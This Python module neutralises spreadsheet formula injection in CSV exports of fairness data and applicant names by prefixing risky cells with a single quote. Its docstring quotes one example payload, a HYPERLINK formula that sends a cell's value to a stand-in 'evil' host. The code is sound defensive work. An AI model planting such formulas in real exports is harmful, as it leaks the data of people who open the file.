"""Text cells that a spreadsheet will not run as formulas (OWASP "CSV Injection").

Group names, attribute names and scopes in a fairness export come from uploaded decision logs,
and applicant exports carry names typed by candidates, so a cell such as
``=HYPERLINK("http://evil/?"&A1)`` would run when someone opens the file in Excel or
LibreOffice. OWASP's rule: a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return gets a leading single quote, which spreadsheets show as text.
"""

import csv
import io
import re
from collections.abc import Iterable, Sequence
from typing import Final

FORMULA_TRIGGERS: Final = ("=", "+", "-", "@", "\t", "\r")
# A plain number such as "-0.25" cannot run; quoting it would turn figures into text.
_PLAIN_NUMBER: Final = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")


def spreadsheet_safe_cell(value: str) -> str:
    """``value`` with a leading ``'`` when a spreadsheet would read it as a formula."""
    if value.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def spreadsheet_safe(value: object) -> str:
    """Any cell value as formula-safe text (``None`` is an empty cell)."""
    return spreadsheet_safe_cell("" if value is None else str(value))


def csv_text(*, header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    """A CSV document (UTF-8 text, CRLF as RFC 4180) whose every cell is formula-safe."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([spreadsheet_safe(cell) for cell in header])
    for row in rows:
        writer.writerow([spreadsheet_safe(cell) for cell in row])
    return buffer.getvalue()
